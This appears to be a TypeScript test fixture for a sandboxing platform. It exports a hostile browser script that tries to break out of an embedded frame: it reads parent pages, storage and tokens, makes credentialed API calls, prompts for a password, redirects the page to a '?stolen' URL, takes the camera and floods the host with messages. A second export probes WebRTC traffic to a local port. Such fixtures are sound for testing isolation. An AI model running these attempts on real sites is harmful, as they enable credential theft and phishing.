// What a hostile package tries from within, and what it says of it: names of what it managed, one a line.

/** `at` is the platform's own origin, as the package may have learned it. */
export const HOSTILE = `
const managed = [];
const list = document.createElement('pre');
list.id = 'managed';
const tried = document.createElement('p');
tried.id = 'tried';
document.body.append(list, tried);
const at = document.referrer ? new URL(document.referrer).origin : location.origin.replace(/:(\\d+)$/, (_, n) => ':' + (n - 1));
const got = (name) => { managed.push(name); list.textContent = managed.join('\\n'); };
const attempt = async (name, work) => {
  try {
    if (await Promise.race([work(), new Promise((done) => setTimeout(done, 1500, false))])) got(name);
  } catch {}
};
const outer = () => {
  let win = window;
  const all = [];
  for (let n = 0; n < 10 && win; n++) { all.push(win); if (win === win.parent) break; win = win.parent; }
  return [...all, top];
};
(async () => {
  await attempt('reads the page', async () => outer().some((w) => { try { return w.document.querySelector('#root') !== null; } catch { return false; } }));
  await attempt('reads the address of the page', async () => /#/.test(top.location.href));
  await attempt('reads storage of the page', async () => outer().some((w) => { try { return w !== window && w.localStorage.length > 0; } catch { return false; } }));
  await attempt('reads storage of another package', async () => localStorage.getItem('left') !== null);
  await attempt('finds a database', async () => ((await indexedDB.databases?.()) ?? []).length > 0);
  await attempt('finds a key in the windows around it', async () => outer().some((w) => { try { return w !== window && w !== top && /uploadKey|"key"|token/i.test(JSON.stringify(Object.values(w).filter((v) => typeof v === 'string'))); } catch { return false; } }));
  await attempt('is told a token', () => new Promise((done) => {
    addEventListener('message', (e) => { if (/token|"key"/.test(JSON.stringify(e.data) ?? '')) done(true); });
    for (const type of ['hello', 'token', 'init', 'user', 'key']) top.postMessage({ mengoo: 1, type }, '*');
    setTimeout(done, 800, false);
  }));
  await attempt('calls the platform', async () => (await fetch(at + '/mengoo/api/Auth/Info', { credentials: 'include' })).ok);
  await attempt('calls the platform unseen', async () => { await fetch(at + '/mengoo/api/health', { mode: 'no-cors' }); return true; });
  await attempt('sends a beacon', async () => { const ok = await fetch('http://127.0.0.1:9/x', { mode: 'no-cors' }).then(() => true); return ok; });
  await attempt('loads a picture from elsewhere', () => new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = at + '/mengoo/favicon.svg'; }));
  await attempt('loads a script from elsewhere', () => new Promise((done) => { const s = document.createElement('script'); s.onload = () => done(true); s.onerror = () => done(false); s.src = at + '/template/mengoo-experiment.js'; document.head.append(s); }));
  await attempt('opens a socket', () => new Promise((done) => { const s = new WebSocket(at.replace('http', 'ws')); s.onopen = () => done(true); s.onerror = () => done(false); }));
  await attempt('shows the platform in itself', () => new Promise((done) => { const f = document.createElement('iframe'); f.src = at + '/mengoo/'; f.onload = () => { try { done(f.contentDocument === null ? false : f.contentDocument.querySelector('#root') !== null); } catch { done(false); } }; document.body.append(f); setTimeout(done, 1000, false); }));
  await attempt('opens a window', async () => window.open(at + '/mengoo/', '_blank') !== null);
  await attempt('keeps a worker', async () => { await navigator.serviceWorker.register('app.js'); return true; });
  await attempt('asks the person', async () => { const before = Date.now(); const said = confirm('password?'); return said || Date.now() - before > 500; });
  await attempt('leads the page away', async () => { top.location = at + '/mengoo/#/login?stolen'; return false; });
  await attempt('posts a form over the page', async () => { const f = document.createElement('form'); f.action = at + '/mengoo/?stolen'; f.target = '_top'; document.body.append(f); f.submit(); return false; });
  await attempt('takes the camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return true; });
  // noise: the page must bear it
  top.postMessage({ mengoo: 1, type: 'state', id: 'big', data: 'x'.repeat(10_000_000) }, '*');
  for (let n = 0; n < 5000; n++) top.postMessage({ mengoo: 1, type: 'enter', id: n, seq: 1 }, '*');
  top.postMessage({ mengoo: 1, type: 'step', id: 's', seq: 99, startTime: 1, endTime: 2, score: 1e9, token: 'x' }, '*');
  localStorage.setItem('left', 'behind');
  document.cookie = 'left=behind; path=/';
  indexedDB.open('left');
  tried.textContent = 'all tried';
})();
`;

/** Packets that no request tells of: whoever listens at that port counts them. Says `called` when it is through with it. */
export const callingPeer = (port: number): string => `
(async () => {
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  } catch {}
  await new Promise((done) => setTimeout(done, 1200));
  const said = document.body.appendChild(document.createElement('p'));
  said.textContent = 'called';
})();
`;
